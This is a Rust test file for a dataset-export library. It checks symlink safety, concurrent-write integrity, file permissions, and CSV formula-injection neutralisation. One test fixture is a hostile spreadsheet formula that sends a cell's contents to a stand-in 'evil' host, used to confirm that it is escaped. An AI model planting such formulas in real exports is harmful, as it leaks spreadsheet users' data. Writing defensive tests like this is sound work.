//! Dataset export cannot be turned against the user (#18 point 1): no writing through planted
//! links, concurrent exports to one path never mix, spreadsheet formulas are neutralised (and
//! come back intact on upload), and new files are owner-only on Unix. The CSV tests need the
//! `csv` feature (on in `cargo test --workspace`).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a test may panic

use std::path::Path;

#[cfg(feature = "csv")]
use mutagent_prompt_datasets::{DatasetFileFormat, UploadOptions};
use mutagent_prompt_datasets::{DatasetFileReader, ExportOptions, PromptDatasetsExt};
use mutagent_test_support::{Reply, ScriptedServer, TempDir};
use mutagent_wire_test::{async_client, blocking_client};
use serde_json::{json, Value};

mod support;
use support::dataset_json;

/// An export answer with `items` (each an item object without the server's keys).
fn export_json(id: i64, items: Vec<Value>) -> Value {
    let items: Vec<Value> = items
        .into_iter()
        .enumerate()
        .map(|(index, mut item)| {
            item["id"] = json!(index + 1);
            item["datasetId"] = json!(id);
            item
        })
        .collect();
    json!({"dataset": dataset_json(id), "items": items, "exportedAt": null})
}

fn export_blocking(
    export: Value,
    path: &Path,
    options: impl Into<ExportOptions>,
) -> Result<(), mutagent_prompt_datasets::ExportError> {
    let server = ScriptedServer::start(vec![Reply::json(200, export)]);
    blocking_client(&server)
        .prompt_datasets()
        .export_dataset_file(12, path, options)
        .map(|_| ())
}

fn simple_export() -> Value {
    export_json(12, vec![json!({"name": "one", "input": {"q": "x"}})])
}

// ---------------------------------------------------------------------------------------------
// Planted links and concurrent exports

#[cfg(unix)]
#[test]
fn a_planted_link_at_the_temporary_or_final_name_is_never_written_through() {
    use std::os::unix::fs::symlink;
    let dir = TempDir::new("mutagent-export-safety");
    let victim = dir.path("victim.txt");
    let other_victim = dir.path("other-victim.txt");
    std::fs::write(&victim, "precious").expect("victim");
    std::fs::write(&other_victim, "also precious").expect("victim");
    let path = dir.path("out.jsonl");
    // The names an attacker can predict: the old `<name>.partial`, and the target itself.
    symlink(&victim, dir.path("out.jsonl.partial")).expect("link");
    symlink(&other_victim, &path).expect("link");

    export_blocking(simple_export(), &path, None).expect("export");

    assert_eq!(
        std::fs::read_to_string(&victim).expect("victim"),
        "precious"
    );
    assert_eq!(
        std::fs::read_to_string(&other_victim).expect("victim"),
        "also precious"
    );
    let meta = std::fs::symlink_metadata(&path).expect("out");
    assert!(meta.file_type().is_file(), "out.jsonl is a plain file now");
    assert!(std::fs::read_to_string(&path)
        .expect("out")
        .contains("\"one\""));
    // Nothing left behind but the planted link, the victims and the export.
    assert_eq!(
        dir.entries(),
        [
            "other-victim.txt",
            "out.jsonl",
            "out.jsonl.partial",
            "victim.txt"
        ]
    );
}

#[test]
fn concurrent_exports_to_one_path_never_mix_or_fail() {
    let dir = TempDir::new("mutagent-export-safety");
    let path = dir.path("shared.jsonl");
    let writers = 8;
    // Each export is big enough (~1 MB) that the writes overlap in time.
    let exports: Vec<Value> = (0..writers)
        .map(|writer| {
            let items = (0..4000)
                .map(|index| {
                    json!({"name": format!("writer {writer} item {index}"),
                           "input": {"text": "x".repeat(200)}})
                })
                .collect();
            export_json(12, items)
        })
        .collect();
    let barrier = std::sync::Barrier::new(writers);
    let results: Vec<Result<(), String>> = std::thread::scope(|scope| {
        let handles: Vec<_> = exports
            .iter()
            .map(|export| {
                let (barrier, path) = (&barrier, &path);
                let server = ScriptedServer::start(vec![Reply::json(200, export.clone())]);
                scope.spawn(move || {
                    let client = blocking_client(&server);
                    barrier.wait();
                    client
                        .prompt_datasets()
                        .export_dataset_file(12, path, None)
                        .map(|_| ())
                        .map_err(|err| err.to_string())
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|handle| handle.join().expect("thread"))
            .collect()
    });
    for result in &results {
        assert!(result.is_ok(), "{results:?}");
    }
    // The file is one writer's export, whole.
    let items: Vec<String> = DatasetFileReader::open(&path, None)
        .expect("open")
        .map(|item| item.expect("item").name.expect("name"))
        .collect();
    assert_eq!(items.len(), 4000);
    let writer = items[0].split(' ').nth(1).expect("writer").to_owned();
    assert!(
        items
            .iter()
            .enumerate()
            .all(|(index, name)| *name == format!("writer {writer} item {index}")),
        "the file mixes exports"
    );
    assert_eq!(dir.entries(), ["shared.jsonl"], "no temporary file left");
}

// ---------------------------------------------------------------------------------------------
// Spreadsheet formulas (CSV only)

#[cfg(feature = "csv")]
const HOSTILE: &str = "=HYPERLINK(\"http://evil/?\"&A1,\"open\")";

#[cfg(feature = "csv")]
fn formula_export() -> Value {
    export_json(
        12,
        vec![
            json!({"name": HOSTILE, "input": {"q": "x"}, "userFeedback": "+1 555 0100",
                   "systemFeedback": "@SUM(A1)", "labels": ["-a"]}),
            json!({"name": "'=already quoted", "input": {"q": "y"}, "userFeedback": "\tcmd",
                   "systemFeedback": "\rcmd"}),
            json!({"name": "plain = text", "input": {"q": "z"}, "userFeedback": "-"}),
        ],
    )
}

#[cfg(feature = "csv")]
/// The raw cells of a CSV text: first field of each line, as written (no unquoting needed
/// for the cells this test looks at, which carry no comma).
fn csv_text(path: &Path) -> String {
    std::fs::read_to_string(path).expect("csv")
}

#[cfg(feature = "csv")]
#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let dir = TempDir::new("mutagent-export-safety");
    let path = dir.path("items.csv");
    export_blocking(formula_export(), &path, None).expect("export");
    let text = csv_text(&path);
    assert!(
        text.contains("\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"open\"\")\""),
        "{text}"
    );
    for written in [
        "'+1 555 0100",
        "'@SUM(A1)",
        "''=already quoted",
        "'\tcmd",
        "\"'\rcmd\"",
        ",'-,",
    ] {
        assert!(text.contains(written), "{written:?} missing in {text:?}");
    }
    assert!(text.contains("plain = text"), "{text}");
    // No cell starts with a trigger character: after a separator or a line start, and after
    // an opening quote.
    for trigger in ['=', '+', '-', '@', '\t'] {
        for before in [",", "\n", ",\"", "\n\""] {
            assert!(
                !text.contains(&format!("{before}{trigger}")),
                "a cell starts with {trigger:?}: {text:?}"
            );
        }
    }
}

#[cfg(feature = "csv")]
#[test]
fn exported_formula_cells_read_back_as_the_original_text() {
    let dir = TempDir::new("mutagent-export-safety");
    let path = dir.path("items.csv");
    export_blocking(formula_export(), &path, None).expect("export");
    let items: Vec<_> = DatasetFileReader::open(&path, None)
        .expect("open")
        .map(|item| item.expect("item"))
        .collect();
    assert_eq!(items[0].name.as_deref(), Some(HOSTILE));
    assert_eq!(items[0].user_feedback.as_deref(), Some("+1 555 0100"));
    assert_eq!(items[0].system_feedback.as_deref(), Some("@SUM(A1)"));
    assert_eq!(items[0].labels.as_deref(), Some(&["-a".to_owned()][..]));
    assert_eq!(items[1].name.as_deref(), Some("'=already quoted"));
    assert_eq!(items[1].user_feedback.as_deref(), Some("\tcmd"));
    assert_eq!(items[1].system_feedback.as_deref(), Some("\rcmd"));
    assert_eq!(items[2].user_feedback.as_deref(), Some("-"));

    // Read exactly as written when asked.
    let raw: Vec<_> = DatasetFileReader::open(&path, None)
        .expect("open")
        .restore_csv_formulas(false)
        .map(|item| item.expect("item"))
        .collect();
    assert_eq!(raw[0].name.as_deref(), Some(&*format!("'{HOSTILE}")));
}

#[cfg(feature = "csv")]
#[test]
fn the_upload_sends_the_original_text_unless_told_to_keep_cells_as_written() {
    let dir = TempDir::new("mutagent-export-safety");
    let path = dir.path("items.csv");
    export_blocking(formula_export(), &path, None).expect("export");
    for (restore, name) in [(true, HOSTILE.to_owned()), (false, format!("'{HOSTILE}"))] {
        let server = ScriptedServer::start(vec![
            Reply::json(200, dataset_json(12)),
            Reply::json(201, json!([])),
        ]);
        blocking_client(&server)
            .prompt_datasets()
            .upload_items_file(
                12,
                UploadOptions::new().restore_csv_formulas(restore),
                &path,
            )
            .expect("upload");
        let sent = server.requests()[1].json();
        assert_eq!(sent["items"][0]["name"], json!(name), "restore {restore}");
    }
}

#[cfg(feature = "csv")]
#[test]
fn an_exact_export_writes_cells_as_they_are() {
    let dir = TempDir::new("mutagent-export-safety");
    let path = dir.path("exact.csv");
    export_blocking(
        formula_export(),
        &path,
        ExportOptions::new().neutralise_csv_formulas(false),
    )
    .expect("export");
    let text = csv_text(&path);
    assert!(text.contains("\"=HYPERLINK("), "{text}");
    assert!(text.contains(",+1 555 0100,"), "{text}");
    let items: Vec<_> = DatasetFileReader::open(&path, None)
        .expect("open")
        .restore_csv_formulas(false)
        .map(|item| item.expect("item"))
        .collect();
    assert_eq!(items[0].name.as_deref(), Some(HOSTILE));
    assert_eq!(items[1].name.as_deref(), Some("'=already quoted"));
    // JSON and JSON Lines are never touched.
    let path = dir.path("exact.jsonl");
    export_blocking(formula_export(), &path, DatasetFileFormat::JsonLines).expect("export");
    assert!(std::fs::read_to_string(&path)
        .expect("jsonl")
        .contains("\"=HYPERLINK("));
}

// ---------------------------------------------------------------------------------------------
// Permissions

#[cfg(unix)]
#[test]
fn new_export_files_are_owner_only_unless_asked_otherwise() {
    use std::os::unix::fs::PermissionsExt;
    let dir = TempDir::new("mutagent-export-safety");
    let mode = |path: &Path| {
        std::fs::metadata(path)
            .expect("metadata")
            .permissions()
            .mode()
            & 0o777
    };
    let path = dir.path("private.jsonl");
    export_blocking(simple_export(), &path, None).expect("export");
    assert_eq!(mode(&path), 0o600);

    // Replacing a readable file gives an owner-only one too.
    let replaced = dir.path("replaced.jsonl");
    std::fs::write(&replaced, "old").expect("old");
    std::fs::set_permissions(&replaced, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    export_blocking(simple_export(), &replaced, None).expect("export");
    assert_eq!(mode(&replaced), 0o600);

    // Asked otherwise: what the umask gives an ordinary new file.
    let shared = dir.path("shared.jsonl");
    export_blocking(
        simple_export(),
        &shared,
        ExportOptions::new().owner_only(false),
    )
    .expect("export");
    let ordinary = dir.path("ordinary.txt");
    std::fs::File::create(&ordinary).expect("create");
    assert_eq!(mode(&shared), mode(&ordinary));
}

// ---------------------------------------------------------------------------------------------
// Options and the plain writer

#[cfg(feature = "csv")]
#[test]
fn the_format_given_wins_over_the_extension() {
    let dir = TempDir::new("mutagent-export-safety");
    let path = dir.path("items.txt");
    // No format: `.txt` says nothing.
    assert!(export_blocking(simple_export(), &path, None).is_err());
    for options in [
        ExportOptions::from(DatasetFileFormat::Csv),
        ExportOptions::from(Some(DatasetFileFormat::Csv)),
        ExportOptions::new().format(DatasetFileFormat::Csv),
    ] {
        export_blocking(simple_export(), &path, options).expect("export");
        let text = std::fs::read_to_string(&path).expect("csv");
        assert!(text.starts_with("name,input,"), "{text}");
    }
}

#[cfg(feature = "csv")]
#[test]
fn write_items_counts_what_it_wrote_and_quotes_edge_spaces() {
    use mutagent_prompt_datasets::export::write_items;
    let export: mutagent_prompt_datasets::PromptDatasetExport =
        serde_json::from_value(export_json(
            12,
            vec![
                json!({"name": "trailing ", "input": {"q": "x"}}),
                json!({"name": " leading", "input": {"q": "y"}}),
            ],
        ))
        .expect("export");
    let mut out = Vec::new();
    let written = write_items(&mut out, DatasetFileFormat::Csv, &export.items).expect("write");
    assert_eq!(written, 2);
    let text = String::from_utf8(out).expect("utf-8");
    assert!(text.contains("\r\n\"trailing \","), "{text:?}");
    assert!(text.contains("\r\n\" leading\","), "{text:?}");
}

// ---------------------------------------------------------------------------------------------
// Failures midway

/// An export that fails (the server refuses, its answer breaks off, the file cannot be put in
/// place) leaves the file already at the path as it was and no temporary file, through both
/// clients: the items are written only once the whole answer is in, to a temporary file.
#[test]
fn a_failed_export_leaves_the_old_file_and_no_temporary_file() {
    let dir = TempDir::new("mutagent-export-failures");
    let path = dir.path("out.jsonl");
    std::fs::write(&path, "old\n").expect("old file");
    std::fs::create_dir(dir.path("taken.jsonl")).expect("a directory at the path");
    let cases = [
        (
            Reply::json(404, json!({"error": "not_found", "message": "no dataset"})),
            path.clone(),
            "API",
        ),
        // The answer breaks off; an accepted GET is not sent again, so one reply is enough.
        (
            Reply::json(200, simple_export()).truncate(40),
            path.clone(),
            "API",
        ),
        (
            Reply::json(200, simple_export()),
            dir.path("taken.jsonl"),
            "directory",
        ),
    ];
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    for (reply, target, kind) in cases {
        for blocking in [true, false] {
            let server = ScriptedServer::start(vec![reply.clone(); 4]);
            let outcome = if blocking {
                blocking_client(&server)
                    .prompt_datasets()
                    .export_dataset_file(12, &target, None)
            } else {
                runtime.block_on(
                    async_client(&server)
                        .prompt_datasets()
                        .export_dataset_file(12, &target, None),
                )
            };
            let err = outcome.expect_err(kind);
            match kind {
                "API" => assert!(
                    matches!(err, mutagent_prompt_datasets::ExportError::Api(_)),
                    "{err:?}"
                ),
                _ => assert!(
                    matches!(&err, mutagent_prompt_datasets::ExportError::Io { source, .. }
                        if source.kind() == std::io::ErrorKind::IsADirectory),
                    "{err:?}"
                ),
            }
            assert_eq!(std::fs::read_to_string(&path).expect("old"), "old\n");
            assert_eq!(dir.entries(), ["out.jsonl", "taken.jsonl"], "{kind}");
            assert!(std::fs::read_dir(dir.path("taken.jsonl"))
                .expect("dir")
                .next()
                .is_none());
        }
    }
}
